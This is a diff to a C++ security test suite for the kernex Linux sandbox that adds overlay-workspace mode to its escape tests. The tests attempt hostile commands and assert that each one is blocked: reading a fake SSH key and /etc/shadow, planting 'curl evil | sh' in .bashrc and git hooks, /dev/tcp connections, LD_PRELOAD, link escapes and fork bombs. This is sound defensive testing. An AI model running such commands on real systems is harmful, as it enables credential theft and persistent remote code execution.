@@ -1,8 +1,10 @@
 // The escape battery: each case runs one attack through the spawner with the default profile (a
 // workspace, the system paths, a private TMPDIR) while this process plays the kernel: a throwaway
 // $HOME with a fake ~/.ssh/id_rsa and a fake API key in its environment. Every case asserts that
-// the attack failed in the expected way and that nothing the sandbox started is still alive.
-// tests/security/README.md lists the cases.
+// the attack failed in the expected way and that nothing the sandbox started is still alive. Every
+// case runs twice: with the plain workspace, and with the workspace in overlay mode (fresh layers
+// per case, and the real tree checked unchanged afterwards); OverlayBattery adds the cases only the
+// overlay has. tests/security/README.md lists the cases.
 #include <arpa/inet.h>
 #include <fcntl.h>
 #include <gtest/gtest.h>
@@ -21,10 +23,13 @@
 #include <cstdlib>
 #include <filesystem>
 #include <fstream>
+#include <map>
+#include <optional>
 #include <sstream>
 #include <thread>
 
 #include "battery_support.hpp"
+#include "overlay_dirs.hpp"
 #include "kernex/sandbox/policy.hpp"
 #include "kernex/sandbox/spawn.hpp"
 
@@ -47,7 +52,8 @@ bool write_refused(const std::string& s) { return s == "EACCES" || s == "EROFS";
 constexpr const char* kHttpOk =
     "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok";
 
-class SecurityBattery : public ::testing::Test {
+// The parameter: whether the workspace is seen through an overlay.
+class SecurityBattery : public ::testing::TestWithParam<bool> {
  protected:
   static void SetUpTestSuite() {
     // Orphans of the sandbox come back here, so a surviving descendant would be visible.
@@ -80,10 +86,53 @@ class SecurityBattery : public ::testing::Test {
     fs::remove_all(root_, ec);
   }
 
+  // Overlay mode: fresh layers for each case (mkdir 0700, as a host makes them), and the real tree
+  // as it was, to compare afterwards.
+  void SetUp() override {
+    if (!GetParam()) return;
+    layers_ = root_ / ("layers-" + std::to_string(++cases_));
+    for (const auto& dir : {*layers_, *layers_ / "upper", *layers_ / "work"}) {
+      ASSERT_EQ(::mkdir(dir.c_str(), 0700), 0) << dir;
+    }
+    auto probe = defaults().Build();
+    if (!probe) GTEST_SKIP() << "overlay not available here: " << probe.error().describe();
+    before_ = kernex::testing::tree_snapshot(ws_);
+  }
+  void TearDown() override {
+    if (!layers_) return;
+    // Not a byte of the real tree changed but what this process wrote there itself.
+    auto after = kernex::testing::tree_snapshot(ws_);
+    for (const char* own : {"to-move.txt", "dropped", "owned.txt", "ls"}) {
+      before_.erase(own);
+      after.erase(own);
+    }
+    EXPECT_EQ(after, before_);
+    std::error_code ec;
+    fs::permissions(*layers_ / "work" / "work", fs::perms::owner_all, ec);
+    fs::remove_all(*layers_, ec);
+    layers_.reset();
+  }
+
   // The default profile of the battery: workspace + system paths + private TMPDIR, and the attack
-  // programs' directory executable.
+  // programs' directory executable; in overlay mode, the workspace through this case's layers.
   static PolicyBuilder defaults() {
-    return PolicyBuilder().workspace(ws_).executable(KERNEX_ATTACK_DIR).timeout(10s);
+    auto b = PolicyBuilder().workspace(ws_).executable(KERNEX_ATTACK_DIR).timeout(10s);
+    if (layers_) b.workspace_overlay(WorkspaceOverlay::in(*layers_));
+    return b;
+  }
+  static fs::path upper() { return *layers_ / "upper"; }
+  // Where the sandbox's view of `ws/<rel>` is kept: the upper layer's entry in overlay mode when
+  // there is one (a whiteout included), else the real tree's.
+  static fs::path seen(const std::string& rel) {
+    std::error_code ec;
+    if (layers_ && fs::exists(fs::symlink_status(upper() / rel, ec))) return upper() / rel;
+    return ws_ / rel;
+  }
+  // Whether the sandbox's view of the workspace holds `rel` (a whiteout hides the real one).
+  static bool visible(const std::string& rel) {
+    struct stat st {};
+    if (::lstat(seen(rel).c_str(), &st) != 0) return false;
+    return !(S_ISCHR(st.st_mode) && st.st_rdev == 0);
   }
   static Policy build(const PolicyBuilder& b) { return build_policy(b); }
 
@@ -116,24 +165,27 @@ class SecurityBattery : public ::testing::Test {
 
   static inline fs::path root_, home_, ws_, outside_, plain_ws_;
   static inline HomeOverride home_override_;
+  static inline std::optional<fs::path> layers_;  // overlay mode: this case's layers
+  static inline int cases_ = 0;
+  std::map<std::string, std::string> before_;
 };
 
 // ---- secrets and files
 // -----------------------------------------------------------------------------
 
-TEST_F(SecurityBattery, ReadSshKeyWithCat) {
+TEST_P(SecurityBattery, ReadSshKeyWithCat) {
   auto r = shell("cat \"$HOME/.ssh/id_rsa\"");
   EXPECT_NE(r.exit_code, 0);
   EXPECT_EQ(r.stdout_data.find(kKeySentinel), std::string::npos);
   EXPECT_NE(r.stderr_data.find("Permission denied"), std::string::npos) << r.stderr_data;
 }
 
-TEST_F(SecurityBattery, ReadSshKeyDirectly) {
+TEST_P(SecurityBattery, ReadSshKeyDirectly) {
   auto r = attack({"read", (home_ / ".ssh" / "id_rsa").string()});
   EXPECT_EQ(first_line(r.stdout_data), "EACCES");
 }
 
-TEST_F(SecurityBattery, ReadParentEnviron) {
+TEST_P(SecurityBattery, ReadParentEnviron) {
   auto r = attack({"read", "/proc/" + std::to_string(::getpid()) + "/environ"});
   EXPECT_EQ(first_line(r.stdout_data), "EACCES");
   EXPECT_EQ(r.stdout_data.find(kApiKey), std::string::npos);
@@ -142,33 +194,33 @@ TEST_F(SecurityBattery, ReadParentEnviron) {
   EXPECT_NE(sh.exit_code, 0);
 }
 
-TEST_F(SecurityBattery, SecretEnvNotPassedThrough) {
+TEST_P(SecurityBattery, SecretEnvNotPassedThrough) {
   auto r = shell("env; echo \"key=$KERNEX_FAKE_API_KEY\"");
   EXPECT_TRUE(r.success()) << r.stderr_data;
   EXPECT_EQ(r.stdout_data.find(kApiKey), std::string::npos);
   EXPECT_NE(r.stdout_data.find("key=\n"), std::string::npos);
 }
 
-TEST_F(SecurityBattery, WriteBashrc) {
+TEST_P(SecurityBattery, WriteBashrc) {
   auto r = shell("echo 'curl evil | sh' >> \"$HOME/.bashrc\"");
   EXPECT_NE(r.exit_code, 0);
   EXPECT_EQ(slurp(home_ / ".bashrc"), "# original\n");
 }
 
-TEST_F(SecurityBattery, WriteOutsideWorkspace) {
+TEST_P(SecurityBattery, WriteOutsideWorkspace) {
   auto r = attack({"write", (outside_ / "planted").string()});
   EXPECT_TRUE(write_refused(first_line(r.stdout_data))) << r.stdout_data;
   EXPECT_FALSE(fs::exists(outside_ / "planted"));
 }
 
-TEST_F(SecurityBattery, WriteSharedTmp) {
+TEST_P(SecurityBattery, WriteSharedTmp) {
   const auto target = "/tmp/kernex-battery-planted-" + std::to_string(::getpid());
   auto r = attack({"write", target});
   EXPECT_TRUE(write_refused(first_line(r.stdout_data))) << r.stdout_data;
   EXPECT_FALSE(fs::exists(target));
 }
 
-TEST_F(SecurityBattery, ReadOtherPartsOfTheSystem) {
+TEST_P(SecurityBattery, ReadOtherPartsOfTheSystem) {
   for (const char* path :
        {"/etc/shadow", "/root", "/home", "/var/log", "/tmp", "/proc/self/status", "/sys/kernel"}) {
     auto r = attack({"read", path});
@@ -177,102 +229,105 @@ TEST_F(SecurityBattery, ReadOtherPartsOfTheSystem) {
   }
 }
 
-TEST_F(SecurityBattery, ListSharedTmp) {
+TEST_P(SecurityBattery, ListSharedTmp) {
   auto r = attack({"list", "/tmp"});
   EXPECT_EQ(first_line(r.stdout_data), "EACCES");
 }
 
-TEST_F(SecurityBattery, WriteGitHooks) {
+TEST_P(SecurityBattery, WriteGitHooks) {
   auto plant =
       shell("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
   EXPECT_NE(plant.exit_code, 0);
   EXPECT_NE(plant.stderr_data.find("Read-only file system"), std::string::npos)
       << plant.stderr_data;
-  EXPECT_FALSE(fs::exists(ws_ / ".git" / "hooks" / "pre-commit"));
+  EXPECT_FALSE(visible(".git/hooks/pre-commit"));
   auto overwrite = attack({"write", (ws_ / ".git" / "hooks" / "pre-commit.sample").string()});
   EXPECT_EQ(first_line(overwrite.stdout_data), "EROFS");
   // The rest of .git is read-only too unless a profile opts in to git writes (battery2_files_test).
   auto object = attack({"write", (ws_ / ".git" / "objects-probe").string()});
   EXPECT_EQ(first_line(object.stdout_data), "EROFS");
-  EXPECT_FALSE(fs::exists(ws_ / ".git" / "objects-probe"));
+  EXPECT_FALSE(visible(".git/objects-probe"));
 }
 
-TEST_F(SecurityBattery, WriteGitConfig) {
+TEST_P(SecurityBattery, WriteGitConfig) {
   auto r = shell("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config");
   EXPECT_NE(r.exit_code, 0);
-  EXPECT_EQ(slurp(ws_ / ".git" / "config"), "[core]\n");
+  EXPECT_EQ(slurp(seen(".git/config")), "[core]\n");
 }
 
-TEST_F(SecurityBattery, SwapGitDirectory) {
+TEST_P(SecurityBattery, SwapGitDirectory) {
   auto r = shell("mv .git .git-old || rm -rf .git/hooks");
   EXPECT_NE(r.exit_code, 0);
-  EXPECT_TRUE(fs::exists(ws_ / ".git" / "hooks" / "pre-commit.sample"));
-  EXPECT_FALSE(fs::exists(ws_ / ".git-old"));
+  EXPECT_TRUE(visible(".git/hooks/pre-commit.sample"));
+  EXPECT_FALSE(visible(".git-old"));
 }
 
-TEST_F(SecurityBattery, WriteRcFileInWorkspace) {
+TEST_P(SecurityBattery, WriteRcFileInWorkspace) {
   auto append = attack({"write", (ws_ / ".bashrc").string()});
   EXPECT_EQ(first_line(append.stdout_data), "EROFS");
   auto replace = shell("rm -f .bashrc || mv .bashrc .bashrc.old");
   EXPECT_NE(replace.exit_code, 0);
-  EXPECT_EQ(slurp(ws_ / ".bashrc"), "# workspace rc\n");
+  EXPECT_EQ(slurp(seen(".bashrc")), "# workspace rc\n");
 }
 
-TEST_F(SecurityBattery, ProtectiveMountsStayPrivate) {
+TEST_P(SecurityBattery, ProtectiveMountsStayPrivate) {
   auto r = shell("true");
   EXPECT_TRUE(r.success());
   EXPECT_EQ(slurp("/proc/self/mountinfo").find(ws_.string()), std::string::npos);
+  if (layers_) {
+    EXPECT_EQ(slurp("/proc/self/mountinfo").find(layers_->string()), std::string::npos);
+  }
 }
 
-TEST_F(SecurityBattery, SymlinkToSecretEscape) {
+TEST_P(SecurityBattery, SymlinkToSecretEscape) {
   auto r = shell("ln -sf \"$HOME/.ssh/id_rsa\" key-link && cat key-link");
   EXPECT_NE(r.exit_code, 0);
   EXPECT_EQ(r.stdout_data.find(kKeySentinel), std::string::npos);
   fs::remove(ws_ / "key-link");
 }
 
-TEST_F(SecurityBattery, SymlinkDirectoryWriteEscape) {
+TEST_P(SecurityBattery, SymlinkDirectoryWriteEscape) {
   auto r = shell("ln -sfn '" + outside_.string() + "' out-link && echo x > out-link/planted");
   EXPECT_NE(r.exit_code, 0);
   EXPECT_FALSE(fs::exists(outside_ / "planted"));
   fs::remove(ws_ / "out-link");
 }
 
-TEST_F(SecurityBattery, HardlinkSecretIntoWorkspace) {
+TEST_P(SecurityBattery, HardlinkSecretIntoWorkspace) {
   auto r = attack({"link", (home_ / ".ssh" / "id_rsa").string(), (ws_ / "hard-key").string()});
   EXPECT_NE(first_line(r.stdout_data), "OK");
-  EXPECT_FALSE(fs::exists(ws_ / "hard-key"));
+  EXPECT_FALSE(visible("hard-key"));
 }
 
-TEST_F(SecurityBattery, RenameOutOfWorkspace) {
+TEST_P(SecurityBattery, RenameOutOfWorkspace) {
   std::ofstream(ws_ / "to-move.txt") << "x";
   auto r = attack({"rename", (ws_ / "to-move.txt").string(), (outside_ / "moved.txt").string()});
   EXPECT_NE(first_line(r.stdout_data), "OK");
   EXPECT_FALSE(fs::exists(outside_ / "moved.txt"));
-  EXPECT_TRUE(fs::exists(ws_ / "to-move.txt"));
+  EXPECT_TRUE(visible("to-move.txt"));
 }
 
-TEST_F(SecurityBattery, RenameSecretIntoWorkspace) {
+TEST_P(SecurityBattery, RenameSecretIntoWorkspace) {
   auto r = attack({"rename", (outside_ / "secret.txt").string(), (ws_ / "stolen.txt").string()});
   EXPECT_NE(first_line(r.stdout_data), "OK");
   EXPECT_TRUE(fs::exists(outside_ / "secret.txt"));
-  EXPECT_FALSE(fs::exists(ws_ / "stolen.txt"));
+  EXPECT_FALSE(visible("stolen.txt"));
 }
 
-TEST_F(SecurityBattery, WriteSystemBinaries) {
+TEST_P(SecurityBattery, WriteSystemBinaries) {
   auto r = attack({"write", "/usr/bin/kernex-planted"});
   EXPECT_TRUE(write_refused(first_line(r.stdout_data))) << r.stdout_data;
   auto etc = attack({"write", "/etc/passwd"});
   EXPECT_TRUE(write_refused(first_line(etc.stdout_data))) << etc.stdout_data;
 }
 
-TEST_F(SecurityBattery, ExecuteFromWorkspace) {
+TEST_P(SecurityBattery, ExecuteFromWorkspace) {
   fs::copy_file(kAttack, ws_ / "dropped", fs::copy_options::overwrite_existing);
   auto r = attack({"exec", (ws_ / "dropped").string()});
   EXPECT_EQ(first_line(r.stdout_data), "EACCES");
 }
 
-TEST_F(SecurityBattery, RawDeviceAccess) {
+TEST_P(SecurityBattery, RawDeviceAccess) {
   for (const char* dev : {"/dev/mem", "/dev/kmsg", "/dev/tty"}) {
     auto r = attack({"write", dev});
     EXPECT_NE(first_line(r.stdout_data), "OK") << dev;
@@ -281,24 +336,24 @@ TEST_F(SecurityBattery, RawDeviceAccess) {
 
 // ---- network -----------------------------------------------------------------------------------
 
-TEST_F(SecurityBattery, TcpToLoopback) {
+TEST_P(SecurityBattery, TcpToLoopback) {
   LoopbackServer server(kHttpOk);
   auto r = attack({"tcp", std::to_string(server.port())});
   EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
   EXPECT_EQ(server.accepted(), 0);
 }
 
-TEST_F(SecurityBattery, UdpSend) {
+TEST_P(SecurityBattery, UdpSend) {
   auto r = attack({"udp", "53"});
   EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
 }
 
-TEST_F(SecurityBattery, DnsLookup) {
+TEST_P(SecurityBattery, DnsLookup) {
   auto r = attack({"dns", "example.com"});
   EXPECT_EQ(r.stdout_data.rfind("EAI", 0), 0u) << r.stdout_data;
 }
 
-TEST_F(SecurityBattery, BashDevTcp) {
+TEST_P(SecurityBattery, BashDevTcp) {
   LoopbackServer server(kHttpOk);
   auto r = run(build(defaults()), {"/bin/bash", "-c",
                                    "exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(server.port()) +
@@ -308,7 +363,7 @@ TEST_F(SecurityBattery, BashDevTcp) {
   EXPECT_EQ(server.accepted(), 0);
 }
 
-TEST_F(SecurityBattery, UnixSocketByPath) {
+TEST_P(SecurityBattery, UnixSocketByPath) {
   const fs::path path = outside_ / "daemon.sock";
   int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
   sockaddr_un addr{};
@@ -322,7 +377,7 @@ TEST_F(SecurityBattery, UnixSocketByPath) {
   EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
 }
 
-TEST_F(SecurityBattery, AbstractUnixSocket) {
+TEST_P(SecurityBattery, AbstractUnixSocket) {
   const std::string name = "kernex-battery-" + std::to_string(::getpid());
   int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
   sockaddr_un addr{};
@@ -343,7 +398,7 @@ TEST_F(SecurityBattery, AbstractUnixSocket) {
   ::close(listener);
 }
 
-TEST_F(SecurityBattery, NetlinkPacketVsockRawSockets) {
+TEST_P(SecurityBattery, NetlinkPacketVsockRawSockets) {
   for (auto [family, type] : {std::pair{"netlink", "raw"},
                               {"packet", "raw"},
                               {"vsock", "stream"},
@@ -358,7 +413,7 @@ TEST_F(SecurityBattery, NetlinkPacketVsockRawSockets) {
   EXPECT_EQ(first_line(pair.stdout_data), "OK");
 }
 
-TEST_F(SecurityBattery, OptedInTcpIsLimitedToItsPorts) {
+TEST_P(SecurityBattery, OptedInTcpIsLimitedToItsPorts) {
   if (landlock_abi() < 4)
     GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
   LoopbackServer allowed(kHttpOk);
@@ -378,7 +433,7 @@ TEST_F(SecurityBattery, OptedInTcpIsLimitedToItsPorts) {
 }
 
 // kernex's network_egress test, ported: curl to a loopback responder.
-TEST_F(SecurityBattery, NetworkEgressPort) {
+TEST_P(SecurityBattery, NetworkEgressPort) {
   if (landlock_abi() < 4)
     GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
   if (!fs::exists("/usr/bin/curl")) GTEST_SKIP() << "curl is not installed";
@@ -397,15 +452,15 @@ TEST_F(SecurityBattery, NetworkEgressPort) {
 // ---- kernel attack surface and other processes
 // ----------------------------------------------------
 
-TEST_F(SecurityBattery, IoUringSetup) {
+TEST_P(SecurityBattery, IoUringSetup) {
   EXPECT_EQ(first_line(attack({"io_uring"}).stdout_data), "EPERM");
 }
 
-TEST_F(SecurityBattery, PtraceParent) {
+TEST_P(SecurityBattery, PtraceParent) {
   EXPECT_EQ(first_line(attack({"ptrace", std::to_string(::getpid())}).stdout_data), "EPERM");
 }
 
-TEST_F(SecurityBattery, ProcessVmReadvParent) {
+TEST_P(SecurityBattery, ProcessVmReadvParent) {
   std::ostringstream addr;
   addr << const_cast<const long*>(&g_parent_secret);
   EXPECT_EQ(first_line(attack({"vm_readv", std::to_string(::getpid()), addr.str()}).stdout_data),
@@ -425,7 +480,7 @@ std::vector<std::string> clone_thread_tids() {
   return tids;
 }
 
-TEST_F(SecurityBattery, KillParent) {
+TEST_P(SecurityBattery, KillParent) {
   if (!scoping())
     GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no signal scoping (needs 6)";
   // EPERM from Landlock's signal scope; ESRCH when the command is in a PID namespace of its own,
@@ -451,7 +506,7 @@ TEST_F(SecurityBattery, KillParent) {
   }
 }
 
-TEST_F(SecurityBattery, PrlimitOfTheKernel) {
+TEST_P(SecurityBattery, PrlimitOfTheKernel) {
   const std::string self = std::to_string(::getpid());
   EXPECT_EQ(first_line(attack({"prlimit", self}).stdout_data), "EPERM");
   EXPECT_EQ(first_line(attack({"prlimit", self}, inherited_filter()).stdout_data), "EPERM");
@@ -461,7 +516,7 @@ TEST_F(SecurityBattery, PrlimitOfTheKernel) {
 
 // The attacks that rely on the seccomp filter and the process group, again on the spawn path where
 // the filter is inherited from a clone thread rather than loaded by the child.
-TEST_F(SecurityBattery, FilterHoldsWhenInherited) {
+TEST_P(SecurityBattery, FilterHoldsWhenInherited) {
   const std::string parent = std::to_string(::getpid());
   for (const std::vector<std::string>& args :
        std::vector<std::vector<std::string>>{{"socket", "unix", "stream", "0"},
@@ -487,7 +542,7 @@ TEST_F(SecurityBattery, FilterHoldsWhenInherited) {
 // A kernel started from a terminal: the command must have no controlling terminal, even where
 // /dev/tty is granted (the path that can't setsid drops it with TIOCNOTTY instead). Run in a forked
 // helper that leads a session whose controlling terminal is a fresh pty.
-TEST_F(SecurityBattery, TerminalOfTheKernelIsOutOfReach) {
+TEST_P(SecurityBattery, TerminalOfTheKernelIsOutOfReach) {
   int report[2];
   ASSERT_EQ(::pipe(report), 0);
   const pid_t helper = ::fork();
@@ -532,35 +587,35 @@ TEST_F(SecurityBattery, TerminalOfTheKernelIsOutOfReach) {
   EXPECT_EQ(got, "ENXIO;ENXIO;");
 }
 
-TEST_F(SecurityBattery, MountTmpfs) {
+TEST_P(SecurityBattery, MountTmpfs) {
   EXPECT_EQ(first_line(attack({"mount", ws_.string()}).stdout_data), "EPERM");
 }
 
-TEST_F(SecurityBattery, UnshareNamespaces) {
+TEST_P(SecurityBattery, UnshareNamespaces) {
   EXPECT_EQ(first_line(attack({"unshare"}).stdout_data), "EPERM");
   EXPECT_EQ(first_line(attack({"unshare_net"}).stdout_data), "EPERM");
   EXPECT_EQ(first_line(attack({"clone_newuser"}).stdout_data), "EPERM");
 }
 
-TEST_F(SecurityBattery, Setns) { EXPECT_EQ(first_line(attack({"setns"}).stdout_data), "EPERM"); }
+TEST_P(SecurityBattery, Setns) { EXPECT_EQ(first_line(attack({"setns"}).stdout_data), "EPERM"); }
 
-TEST_F(SecurityBattery, Keyctl) {
+TEST_P(SecurityBattery, Keyctl) {
   EXPECT_EQ(first_line(attack({"keyctl"}).stdout_data), "EPERM");
   EXPECT_EQ(first_line(attack({"add_key"}).stdout_data), "EPERM");
 }
 
-TEST_F(SecurityBattery, Bpf) { EXPECT_EQ(first_line(attack({"bpf"}).stdout_data), "EPERM"); }
+TEST_P(SecurityBattery, Bpf) { EXPECT_EQ(first_line(attack({"bpf"}).stdout_data), "EPERM"); }
 
-TEST_F(SecurityBattery, PerfEventOpen) {
+TEST_P(SecurityBattery, PerfEventOpen) {
   EXPECT_EQ(first_line(attack({"perf"}).stdout_data), "EPERM");
 }
 
-TEST_F(SecurityBattery, UserfaultfdAndModules) {
+TEST_P(SecurityBattery, UserfaultfdAndModules) {
   EXPECT_EQ(first_line(attack({"userfaultfd"}).stdout_data), "EPERM");
   EXPECT_EQ(first_line(attack({"finit_module"}).stdout_data), "EPERM");
 }
 
-TEST_F(SecurityBattery, TerminalInjection) {
+TEST_P(SecurityBattery, TerminalInjection) {
   EXPECT_EQ(first_line(attack({"tiocsti"}).stdout_data), "EPERM");
 }
 
@@ -579,7 +634,7 @@ bool host_has_ia32_entry() {
   return WIFEXITED(status) && WEXITSTATUS(status) == 0;
 }
 
-TEST_F(SecurityBattery, ThirtyTwoBitSyscallEntry) {
+TEST_P(SecurityBattery, ThirtyTwoBitSyscallEntry) {
   auto r = attack({"int80"});
   if (first_line(r.stdout_data) == "UNSUPPORTED") GTEST_SKIP() << "not an x86-64 kernel";
   if (!host_has_ia32_entry()) {
@@ -591,7 +646,7 @@ TEST_F(SecurityBattery, ThirtyTwoBitSyscallEntry) {
   EXPECT_EQ(r.stdout_data, "");
 }
 
-TEST_F(SecurityBattery, CapabilitiesAreGone) {
+TEST_P(SecurityBattery, CapabilitiesAreGone) {
   auto r = attack({"caps"});
   EXPECT_EQ(first_line(r.stdout_data),
             "eff=000000000 prm=000000000 inh=000000000 bounding=0 ambient=0 nnp=1")
@@ -609,7 +664,7 @@ TEST_F(SecurityBattery, CapabilitiesAreGone) {
   EXPECT_TRUE(denied(chown.stdout_data)) << chown.stdout_data;
 }
 
-TEST_F(SecurityBattery, SetuidBinary) {
+TEST_P(SecurityBattery, SetuidBinary) {
   const fs::path suid = root_ / "suid-bin";
   fs::create_directories(suid);
   fs::copy_file(kAttack, suid / "attack", fs::copy_options::overwrite_existing);
@@ -626,7 +681,7 @@ TEST_F(SecurityBattery, SetuidBinary) {
 // ---- commands and environment
 // ----------------------------------------------------------------------
 
-TEST_F(SecurityBattery, CommandNotOnAllowList) {
+TEST_P(SecurityBattery, CommandNotOnAllowList) {
   auto policy = build(defaults().allow_command("echo"));
   for (auto argv : {std::vector<std::string>{"cat", "/etc/hostname"},
                     {"/bin/sh", "-c", "cat /etc/hostname"},
@@ -639,14 +694,14 @@ TEST_F(SecurityBattery, CommandNotOnAllowList) {
   }
 }
 
-TEST_F(SecurityBattery, CommandViaAllowedShell) {
+TEST_P(SecurityBattery, CommandViaAllowedShell) {
   auto r =
       run(build(defaults().allow_command("sh")), {"sh", "-c", "cat /etc/hostname; echo after"});
   EXPECT_EQ(r.stdout_data, "after\n");
   EXPECT_NE(r.stderr_data.find("Permission denied"), std::string::npos) << r.stderr_data;
 }
 
-TEST_F(SecurityBattery, CommandViaAllowedInterpreter) {
+TEST_P(SecurityBattery, CommandViaAllowedInterpreter) {
   if (!fs::exists("/usr/bin/perl")) GTEST_SKIP() << "perl is not installed";
   auto r = run(build(defaults().allow_command("perl")),
                {"perl", "-e", "exec('/bin/cat', '/etc/hostname') or print \"blocked: $!\\n\""});
@@ -656,7 +711,7 @@ TEST_F(SecurityBattery, CommandViaAllowedInterpreter) {
   EXPECT_EQ(sys.stdout_data, "blocked");
 }
 
-TEST_F(SecurityBattery, PathOverride) {
+TEST_P(SecurityBattery, PathOverride) {
   Command cmd;
   cmd.argv = {"/bin/true"};
   cmd.env = {{"PATH", ws_.string()}};
@@ -675,7 +730,7 @@ TEST_F(SecurityBattery, PathOverride) {
   EXPECT_EQ(fallback.stderr_data.find("usage: attack"), std::string::npos);
 }
 
-TEST_F(SecurityBattery, LdPreloadOverride) {
+TEST_P(SecurityBattery, LdPreloadOverride) {
   Command cmd;
   cmd.argv = {"/bin/true"};
   cmd.env = {{"LD_PRELOAD", (ws_ / "evil.so").string()}};
@@ -690,7 +745,7 @@ TEST_F(SecurityBattery, LdPreloadOverride) {
 // ---- resources and lifetime
 // ------------------------------------------------------------------------
 
-TEST_F(SecurityBattery, ForkBomb) {
+TEST_P(SecurityBattery, ForkBomb) {
   ResourceLimits limits;
   limits.processes = 64;
   auto r = run(build(defaults().limits(limits)), {kAttack, "fork_bomb"}, 1500ms);
@@ -700,7 +755,7 @@ TEST_F(SecurityBattery, ForkBomb) {
             "EAGAIN");  // fork failed at the limit instead of filling the pid space
 }
 
-TEST_F(SecurityBattery, MemoryBomb) {
+TEST_P(SecurityBattery, MemoryBomb) {
   ResourceLimits limits;
   limits.address_space_bytes = 256ull << 20;
   auto r = run(build(defaults().limits(limits)), {kAttack, "memory", "2048"});
@@ -708,7 +763,7 @@ TEST_F(SecurityBattery, MemoryBomb) {
   EXPECT_LT(r.peak_rss_kb.value_or(0), 300 * 1024);  // unknown means below this process's RSS
 }
 
-TEST_F(SecurityBattery, CpuLoop) {
+TEST_P(SecurityBattery, CpuLoop) {
   ResourceLimits limits;
   limits.cpu_seconds = 1;
   // The CPU limit ends it, not the wall-clock timeout, however loaded the machine is (one CPU
@@ -722,7 +777,7 @@ TEST_F(SecurityBattery, CpuLoop) {
   EXPECT_TRUE(wall.timed_out);
 }
 
-TEST_F(SecurityBattery, BackgroundChildOutlivingTheTimeout) {
+TEST_P(SecurityBattery, BackgroundChildOutlivingTheTimeout) {
   auto r = run(build(defaults()),
                {"/bin/sh", "-c", "(trap '' HUP TERM; sleep 1000) & echo $!; sleep 1000"}, 300ms);
   EXPECT_TRUE(r.timed_out);
@@ -735,13 +790,13 @@ TEST_F(SecurityBattery, BackgroundChildOutlivingTheTimeout) {
   }
 }
 
-TEST_F(SecurityBattery, DaemonThatLeavesTheSession) {
+TEST_P(SecurityBattery, DaemonThatLeavesTheSession) {
   auto r = run(build(defaults()), {kAttack, "daemon"});
   EXPECT_TRUE(r.success());
   EXPECT_NE(r.stdout_data.find("setsid=EPERM"), std::string::npos) << r.stdout_data;
 }
 
-TEST_F(SecurityBattery, StdoutFlood) {
+TEST_P(SecurityBattery, StdoutFlood) {
   auto r =
       run(build(defaults().output_caps(64 * 1024, 64 * 1024)), {"/usr/bin/yes", "flood"}, 500ms);
   EXPECT_TRUE(r.timed_out);
@@ -750,17 +805,17 @@ TEST_F(SecurityBattery, StdoutFlood) {
   EXPECT_NE(r.stdout_data.find("output truncated"), std::string::npos);
 }
 
-TEST_F(SecurityBattery, DiskFill) {
+TEST_P(SecurityBattery, DiskFill) {
   ResourceLimits limits;
   limits.file_size_bytes = 1 << 20;
   auto r = attack({"fill", (ws_ / "fill.bin").string(), std::to_string(1L << 30)},
                   defaults().limits(limits));
   EXPECT_EQ(first_line(r.stdout_data), "EFBIG after 1048576");
-  EXPECT_LE(fs::file_size(ws_ / "fill.bin"), 1u << 20);
+  EXPECT_LE(fs::file_size(seen("fill.bin")), 1u << 20);
   fs::remove(ws_ / "fill.bin");
 }
 
-TEST_F(SecurityBattery, FdExhaustion) {
+TEST_P(SecurityBattery, FdExhaustion) {
   ResourceLimits limits;
   limits.open_files = 32;
   auto r = attack({"fds"}, defaults().limits(limits));
@@ -770,7 +825,7 @@ TEST_F(SecurityBattery, FdExhaustion) {
 // ---- kernex's home_lockdown test, ported
 // -----------------------------------------------------------
 
-TEST_F(SecurityBattery, HomeLockdownPort) {
+TEST_P(SecurityBattery, HomeLockdownPort) {
   const fs::path project = home_ / ".kernex" / "projects" / "proj";
   auto b = PolicyBuilder().workspace(project);
   auto key = run(build(b), {"/bin/cat", (home_ / ".ssh" / "id_rsa").string()});
@@ -784,5 +839,126 @@ TEST_F(SecurityBattery, HomeLockdownPort) {
   EXPECT_TRUE(write.success()) << write.stderr_data;
   EXPECT_TRUE(fs::exists(project / "agent-wrote.txt"));
 }
+
+// ---- overlay mode only (issue "Overlay workspace")
+// ---------------------------------------------------------
+
+// The same battery, instantiated in overlay mode only.
+class OverlayBattery : public SecurityBattery {};
+
+// The layers hold what the review will land: a command that could write them directly, or read
+// what is there beside its own view, would bypass it.
+TEST_P(OverlayBattery, LayersAreOutOfReach) {
+  auto wrote = shell("echo mine > mine.txt && echo ok");
+  EXPECT_EQ(wrote.stdout_data, "ok\n") << wrote.stderr_data;
+  ASSERT_TRUE(fs::exists(upper() / "mine.txt"));
+  for (const fs::path& target : {upper() / "planted", *layers_ / "work" / "planted",
+                                 upper() / "mine.txt", *layers_ / "planted"}) {
+    auto r = attack({"write", target.string()});
+    EXPECT_TRUE(write_refused(first_line(r.stdout_data))) << target << ": " << r.stdout_data;
+  }
+  for (const fs::path& target : {upper(), *layers_, *layers_ / "work"}) {
+    EXPECT_EQ(first_line(attack({"list", target.string()}).stdout_data), "EACCES") << target;
+  }
+  EXPECT_EQ(first_line(attack({"read", (upper() / "mine.txt").string()}).stdout_data), "EACCES");
+  // Nor through a link made inside the workspace.
+  auto via = shell("ln -s '" + upper().string() + "' up && echo x > up/planted; ls up");
+  EXPECT_NE(via.exit_code, 0);
+  EXPECT_FALSE(fs::exists(upper() / "planted"));
+  EXPECT_EQ(slurp(upper() / "mine.txt"), "mine\n");
+}
+
+// A symlink written into the upper layer is only a symlink: it reaches nothing the grants don't,
+// from this spawn or a later one.
+TEST_P(OverlayBattery, UpperSymlinksReachNothing) {
+  auto made = shell("ln -s \"$HOME/.ssh\" ssh-dir && ln -s \"$HOME/.ssh/id_rsa\" key && ln -s '" +
+                    outside_.string() + "' out && echo made");
